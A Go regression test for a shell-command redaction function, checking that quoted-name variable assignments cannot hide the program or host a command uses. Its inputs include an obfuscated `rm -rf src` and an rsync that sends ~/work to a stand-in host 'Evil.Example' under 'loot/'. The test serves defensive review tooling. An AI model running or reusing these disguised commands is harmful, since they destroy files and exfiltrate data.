package domain

import (
	"strings"
	"testing"
)

// TestAttack96_QuotedNameAssignmentHidesProgram (ninety-sixth review, on
// 8e5dca9: a regression). The README: "the value of a variable the text
// expands anywhere but where a credential goes ... is shown whatever its
// name, since the shell reads no names" (exposedVars, the thirty-ninth and
// forty-second reviews: `MY_SECRET=/tmp/x; "$MY_SECRET"` hid the program).
// The assign pattern asks exposedVars; the new member pattern
// (`\\*"NAME\\*"[:=]\\*"VALUE\\*"`, meant for JSON) also matches a shell
// assignment whose name is quoted, `export "CLEANUP_TOKEN"="rm"` (the
// shell removes the quotes: export gets CLEANUP_TOKEN=rm), and its clip
// has no exposed check. So
//
//	export "CLEANUP_TOKEN"="rm"; $CLEANUP_TOKEN -rf src
//
// is shown as `export "CLEANUP_TOKEN"="[redacted]"; $CLEANUP_TOKEN -rf src`:
// the program the command runs is hidden. The same with the name unquoted
// is shown (control), and was shown with the name quoted before 8e5dca9.
// Paths (`cp x "$T"` where T is Makefile) and hosts (an upper-case one)
// are hidden the same way.
//
// Root cause: domain/redact.go redactGated: the member and memberBare
// clips carry no exposed (clip.exposed), unlike assign's.
//
// Fix: give the member patterns' clip exposed: exposed, as assign's (or
// read a quoted name followed by = as an assignment's name).
func TestAttack96_QuotedNameAssignmentHidesProgram(t *testing.T) {
	shell := textMode{shell: true, keysShown: true}
	const tok = "Zq8xLmN3pQ7rT2vW"
	// Controls: unquoted, the value is shown (exposedVars); a token
	// expanded only where a credential goes is hidden, name quoted or not.
	for _, c := range []struct{ in, want string }{
		{`export CLEANUP_TOKEN=rm; $CLEANUP_TOKEN -rf src`, "CLEANUP_TOKEN=rm;"},
		{`export API_TOKEN="Makefile"; cp /tmp/x "$API_TOKEN"`, `"Makefile"`},
	} {
		if got := redactText(c.in, shell); !strings.Contains(got, c.want) {
			t.Fatalf("control: %s\nshown as %s, want %q in view", c.in, got, c.want)
		}
	}
	for _, s := range []string{
		`export API_TOKEN="` + tok + `"; curl -H "Authorization: Bearer $API_TOKEN" https://api.example/`,
		`export "API_TOKEN"="` + tok + `"; curl -H "Authorization: Bearer $API_TOKEN" https://api.example/`,
	} {
		if got := redactText(s, shell); strings.Contains(got, tok) {
			t.Fatalf("control: credential shown: %s", got)
		}
	}
	for _, c := range []struct{ in, want string }{
		{`export "CLEANUP_TOKEN"="rm"; $CLEANUP_TOKEN -rf src`, `"rm"`},
		{`export "API_TOKEN"="Makefile"; cp /tmp/x "$API_TOKEN"`, `"Makefile"`},
		{`env "API_TOKEN"="python3" sh -c '"$API_TOKEN" x.py'`, `"python3"`},
		{`declare "DEPLOY_TOKEN"="Evil.Example"; rsync -a ~/work/ "$DEPLOY_TOKEN":loot/`, `"Evil.Example"`},
	} {
		if got := redactText(c.in, shell); !strings.Contains(got, c.want) {
			t.Errorf("shell: %s\nshown as %s, want %q in view", c.in, got, c.want)
		}
	}
}
